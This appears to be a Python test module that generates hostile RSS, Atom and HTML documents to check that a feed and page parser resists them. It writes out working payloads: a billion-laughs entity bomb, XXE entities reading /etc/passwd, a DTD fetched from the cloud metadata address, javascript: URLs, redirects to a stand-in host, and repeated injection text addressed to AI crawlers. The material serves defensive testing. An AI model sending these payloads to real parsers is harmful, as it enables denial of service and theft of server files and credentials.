"""XML and HTML that is made to break parsers: bombs of entities, depth, width, length, and what is never closed."""

from __future__ import annotations

from collections.abc import Callable

from tests.chaos.hostile.case import Case, Ending, Kind, reply
from tests.chaos.hostile.documents import atom, entry, item, page, rss
from tests.chaos.hostile.planting import FACT, ORDERS, STORY

_LAUGHS = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
_BOMB = f'<!DOCTYPE rss [<!ENTITY l0 "{FACT}">{_LAUGHS}]>'
_OUTSIDE = '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_PARAMETER = '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://169.254.169.254/evil.dtd"> %p; %all;]>'
_HEAVY = (
    *("a hundred thousand attributes", "ten thousand namespaces", "ten thousand attributes", "ten thousand categories"),
    "ten thousand entries",
)
_CIRCLE = '<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'
_QUADRATIC = f'<!DOCTYPE rss [<!ENTITY a "{"evilgrab " * 10_000}">]>'


def _feeds() -> dict[str, tuple[Callable[[], str], Ending]]:
    many = "".join(
        f"<item><title>{STORY[0]} {at}</title><guid>g{at}</guid><description>{STORY[1]}</description></item>"
        for at in range(10_000)
    )
    return {
        "a billion laughs": (lambda: rss(item(rest="<author>&l9;</author>"), prolog=_BOMB), "either"),
        "a billion laughs in a title": (lambda: rss(item(title="&l9;"), prolog=_BOMB), "either"),
        "quadratic entities": (lambda: rss(item(title="&a;" * 10_000), prolog=_QUADRATIC), "either"),
        "an entity of a file": (lambda: rss(item(title="&x;"), prolog=_OUTSIDE), "either"),
        "an entity of an address": (lambda: rss(item(), prolog=_PARAMETER), "either"),
        "entities in a circle": (lambda: rss(item(title="&a;"), prolog=_CIRCLE), "either"),
        "a definition from outside": (
            lambda: rss(item(), prolog='<!DOCTYPE rss SYSTEM "file:///dev/zero">'),
            "either",
        ),
        "an inclusion": (
            lambda: rss(
                item(rest='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>')
            ),
            "either",
        ),
        "a style sheet of its own": (lambda: '<?xml-stylesheet href="javascript:evilgrab"?>' + rss(item()), "either"),
        "an entity that nobody declared": (lambda: rss(item(title="Tram &nonsense; line for the harbour")), "either"),
        "ten thousand entries": (lambda: rss(item() + many), "either"),
        "ten thousand levels": (lambda: rss(item(rest="<a>" * 10_000)), "either"),
        "ten thousand levels of HTML in an entry": (lambda: rss(item("<div>" * 10_000)), "either"),
        "ten thousand namespaces": (
            lambda: rss(item(rest="".join(f'<x{at}:a xmlns:x{at}="urn:{at}"/>' for at in range(10_000)))),
            "either",
        ),
        "ten thousand attributes": (
            lambda: rss(item(rest="<a " + " ".join(f'a{at}="1"' for at in range(10_000)) + "/>")),
            "either",
        ),
        "a title of a megabyte": (lambda: rss(item(title="tram " * 60_000)), "either"),
        "an attribute of a megabyte": (lambda: rss(item(rest=f'<media:content url="{"a" * 1_000_000}"/>')), "either"),
        "a text of four megabytes": (lambda: rss(item("<p>The tram goes on and on.</p>" * 40_000)), "either"),
        "a name of a megabyte": (lambda: rss(item(rest=f"<{'a' * 1_000_000}/>")), "either"),
        "a section that never ends": (lambda: rss(item(rest=f"<author><![CDATA[{FACT}")), "either"),
        "a comment that never ends": (lambda: rss(item(rest=f"<!-- {FACT}")), "either"),
        "ten thousand categories": (
            lambda: rss(item(rest="".join(f"<category>tram {at}</category>" for at in range(10_000)))),
            "either",
        ),
        "ten thousand links": (
            lambda: atom(entry(rest="".join(f'<link href="/{at}"/>' for at in range(10_000)))),
            "either",
        ),
        "a feed within a feed": (lambda: rss(item() + rss(item(title=ORDERS[2]))), "either"),
        "two feeds": (lambda: rss(item()) + rss(item(title=ORDERS[1])), "either"),
        "a version of nine": (lambda: rss(item()).replace('"1.0"', '"9.9"', 1), "either"),
        "nothing": (lambda: "", "refused"),
        "a feed of JSON": (
            lambda: '{"version":"https://jsonfeed.org/version/1","items":[{"content_text":"x"}]}',
            "refused",
        ),
        "ten thousand numbers of letters": (lambda: rss(item(title="&#101;" * 10_000)), "either"),
        "numbers of letters that are none": (
            lambda: rss(item(title="Tram &#0;&#x110000;&#xD800;&#27; line approved")),
            "either",
        ),
    }


def _pages() -> dict[str, tuple[Callable[[], str], Ending]]:
    return {
        "ten thousand levels": (lambda: page("<div>" * 10_000), "either"),
        "ten thousand levels of letters": (lambda: page("<b><i>" * 5_000 + "x"), "either"),
        "a hundred thousand paragraphs": (lambda: page("<p>x</p>" * 100_000), "either"),
        "tables within tables": (lambda: page("<table><tr><td>" * 300), "either"),
        "a table of a hundred thousand cells": (lambda: page(f"<table>{'<tr><td>a<td>b' * 50_000}</table>"), "either"),
        "lists within lists": (lambda: page("<ul><li>" * 3_000), "either"),
        "forms, selects and options never closed": (lambda: page("<form><select><option>" * 3_000), "either"),
        "a hundred thousand attributes": (
            lambda: page("<p " + " ".join(f"a{at}=1" for at in range(100_000)) + ">"),
            "either",
        ),
        "an attribute of two megabytes": (lambda: page(f'<p title="{"evilgrab " * 60_000}">x</p>'), "either"),
        "a style of two megabytes": (lambda: page(f'<p style="{"left:-" * 100_000}">x</p>'), "either"),
        "a thousand selectors at great depth": (
            lambda: page(
                "<div>" * 200 + "<p class=c>x</p>" * 5_000,
                head=f"<style>{''.join(f'div div .c{at},div div p{{display:none}}' for at in range(1_000))}</style>",
            ),
            "either",
        ),
        "a title of two megabytes": (lambda: page(title="tram line " * 60_000), "either"),
        "a title of bars": (lambda: page(title=" | ".join(["Tram"] * 20_000)), "either"),
        "a word of two megabytes": (lambda: page(f"<p>{'tram' * 60_000}</p>"), "either"),
        "a sentence of two megabytes": (lambda: page(f"<p>The tram {'goes on and on, ' * 40_000}.</p>"), "either"),
        "quotation marks for ever": (lambda: page(f"<p>{'“ « „ ‘ ( 「 ' * 100_000}</p>"), "either"),
        "stops for ever": (lambda: page(f"<p>{'A. b? C! ' * 15_000}</p>"), "either"),
        "words of orders for ever": (
            lambda: page(f"<p>{'ignore ai post crawler instructions send ' * 40_000}</p>"),
            "either",
        ),
        "dots for ever": (lambda: page(f"<p>{'a.b' * 100_000}</p>"), "either"),
        "at signs for ever": (lambda: page(f"<p>{'@' * 100_000} {'a@' * 100_000}</p>"), "either"),
        "figures for ever": (lambda: page(f"<p>{'1.234,5 ' * 60_000}</p>"), "either"),
        "single letters for ever": (lambda: page(f"<p>{'a ' * 60_000} .c o</p>"), "either"),
        "ampersands for ever": (lambda: page(f"<p>{'&' * 60_000}{'&#x' * 100_000}</p>"), "either"),
        "brackets for ever": (lambda: page("<" * 60_000 + "<!" * 60_000), "either"),
        "comments for ever": (lambda: page(f"{'<!--' * 100_000} {FACT}"), "either"),
        "data of great depth": (
            lambda: page(head=f'<script type="application/ld+json">{"[" * 100_000}{"]" * 100_000}</script>'),
            "either",
        ),
        "data that lie about dates": (
            lambda: page(head='<meta property="article:published_time" content="0000-00-00T99:99:99+99:99">'),
            "read",
        ),
        "a date in the year 9999 at the edge": (
            lambda: page(head='<meta property="article:published_time" content="9999-12-31T23:59:59-14:00">'),
            "read",
        ),
        "another base": (
            lambda: page(head='<base href="javascript:evilgrab"><base href="https://evilgrab.com/">'),
            "read",
        ),
        "another address of its own": (
            lambda: page(
                head='<link rel=canonical href="https://evilgrab.com/x"><meta property="og:url" content="https://evilgrab.com/">'
            ),
            "read",
        ),
        "a bomb of entities": (lambda: _BOMB.replace("rss", "html") + page("<p>&l9;</p>"), "either"),
        "frames": (
            lambda: "<html><frameset><frame src=javascript:evilgrab><frame src=file:///etc/passwd></frameset></html>",
            "refused",
        ),
        "a refresh to elsewhere": (
            lambda: page(head='<meta http-equiv=refresh content="0;url=https://evilgrab.com/">'),
            "read",
        ),
        "nothing": (lambda: "", "refused"),
        "white space": (lambda: " \n\t" * 100_000, "refused"),
        "a thousand articles": (
            lambda: page(f"<article><h1>{STORY[3]}</h1><p>{STORY[1]}</p></article>" * 1_000),
            "either",
        ),
    }


def cases() -> list[Case]:
    """Give every one; the largest are made as they are asked for."""
    feeds = [_case("feed", name, make, ends) for name, (make, ends) in _feeds().items()]
    return feeds + [_case("page", name, make, ends) for name, (make, ends) in _pages().items()]


def _case(kind: Kind, name: str, make: Callable[[], str], ends: Ending) -> Case:
    served = "text/html; charset=utf-8" if kind == "page" else "text/xml; charset=utf-8"
    return Case(f"a {kind} with {name}", kind, lambda: reply(make(), kind=served), heavy=name in _HEAVY, ends=ends)
